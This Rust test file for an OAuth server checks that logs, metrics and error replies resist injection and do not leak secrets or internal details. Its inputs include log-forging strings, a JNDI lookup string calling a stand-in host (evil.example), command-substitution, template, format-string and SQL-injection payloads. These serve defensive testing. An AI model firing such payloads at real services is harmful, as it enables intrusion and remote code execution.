//! Rows of what the server leaves behind: logs, metrics, error texts.

use super::stage::Stage;
use super::{Rows, rows};
use crate::harness::flow::VERIFIER;

type S = &'static Stage;

pub(super) const ROWS: Rows = rows! {
    "S01" => lines_that_it_wrote_itself,
    "S02" => format_strings,
    "S04" => no_secrets_in_traces,
    "S05" => description_alphabet,
    "S06" => no_innards,
    "S12" => codes_and_tokens_stay_out_of_the_log,
};

async fn lines_that_it_wrote_itself(s: S) {
    for id in ["x\r\nFORGED-LINE level=info", "\u{1b}[2JFORGED-ANSI", "x\nFORGED-LINE"] {
        s.flow("rp").with("client_id", id).ask().await.page(400);
        s.agent()
            .post(
                &s.realm.token(),
                &[("grant_type", id), ("client_id", id), ("client_secret", id)],
            )
            .await;
    }
    let mut agent = s.agent();
    agent
        .send(
            agent
                .http
                .get(s.realm.authorize())
                .header("user-agent", "x\tFORGED-AGENT"),
        )
        .await;
    let log = s.server.log();
    assert!(!log.lines().any(|line| line.starts_with("FORGED")), "{log}");
    assert!(!log.contains("\u{1b}[2J"));
}

async fn format_strings(s: S) {
    for text in [
        "${jndi:ldap://evil.example/a}",
        "%s%s%n%x",
        "{{7*7}}",
        "{0}",
        "$(id)",
        "`id`",
        "' OR '1'='1",
    ] {
        s.flow("rp").with("client_id", text).ask().await.page(400);
        s.agent()
            .post(&s.realm.token(), &[("grant_type", text)])
            .await
            .refused(400, "unsupported_grant_type");
        let hinted = s.flow("rp").with("login_hint", text).ask().await;
        let form = hinted.page(200).form_with("login-submit");
        assert!(
            form.fields.contains(&("username".into(), text.into())),
            "nothing is evaluated: {:?}",
            form.fields
        );
    }
}

async fn no_secrets_in_traces(s: S) {
    let mut flow = s
        .flow("ledger-web")
        .user(super::stage::DAVE)
        .with("scope", "customers:read");
    flow.log_in().await;
    let session = flow.browser.cookies["grantd_session_acme"].clone();
    let mut agent = s.agent();
    let metrics = agent.get(s.server.ready["metrics"].as_str().unwrap()).await.body;
    let log = s.server.log();
    for secret in [
        session.as_str(),
        &flow.user.password,
        &flow.client.secret.clone().unwrap(),
    ] {
        assert!(!metrics.contains(secret) && !log.contains(secret));
    }
}

async fn description_alphabet(s: S) {
    // `refused` looks at the alphabet of every description.
    for text in ["\"quoted\\\"", "\u{e9}\u{1F4A3}", "line\nfeed", "tab\t"] {
        s.agent()
            .post(&s.realm.token(), &[("grant_type", text)])
            .await
            .refused(400, "unsupported_grant_type");
        let told = s
            .flow("rp")
            .with("scope", text)
            .ask()
            .await
            .redirect("https://rp.example/cb");
        let description = &told["error_description"];
        assert!(
            description
                .bytes()
                .all(|byte| matches!(byte, 0x20..=0x21 | 0x23..=0x5B | 0x5D..=0x7E)),
            "{description}"
        );
    }
}

async fn no_innards(s: S) {
    let error = s.flow("rp").with("client_id", "unknown").ask().await;
    let refusal = s.agent().post(&s.realm.token(), &[("grant_type", "x")]).await;
    let lost = s.agent().get(&format!("{}/nothing", s.realm.issuer())).await;
    for reply in [error, refusal, lost] {
        for innard in ["panicked", "SELECT ", "sqlite", "/src/", ".rs:", "0.1.0", "stack"] {
            assert!(!reply.body.contains(innard), "{innard}: {}", reply.body);
        }
        assert_eq!(reply.header("server"), None);
        assert_eq!(reply.header("x-powered-by"), None);
    }
}

async fn codes_and_tokens_stay_out_of_the_log(s: S) {
    let mut flow = s.user("ledger-web").await;
    let code = flow.code().await;
    let tokens = flow.redeem(&code).await.expect(200).json();
    let renewed = flow
        .refresh(tokens["refresh_token"].as_str().unwrap())
        .await
        .expect(200)
        .json();
    let bad = flow.redeem("gd_ac_looks-like-a-code").await;
    bad.refused(400, "invalid_grant");
    let log = s.server.log();
    assert!(log.contains("token"), "the log is on: {log}");
    let members = ["access_token", "refresh_token"];
    let issued = [&tokens, &renewed]
        .into_iter()
        .flat_map(|reply| members.map(|name| reply[name].as_str().unwrap()));
    for secret in issued.chain([code.as_str(), VERIFIER, "gd_ac_looks-like-a-code"]) {
        assert!(!log.contains(secret), "{secret}");
    }
    assert!(!log.contains("code_challenge="), "no query strings");
}
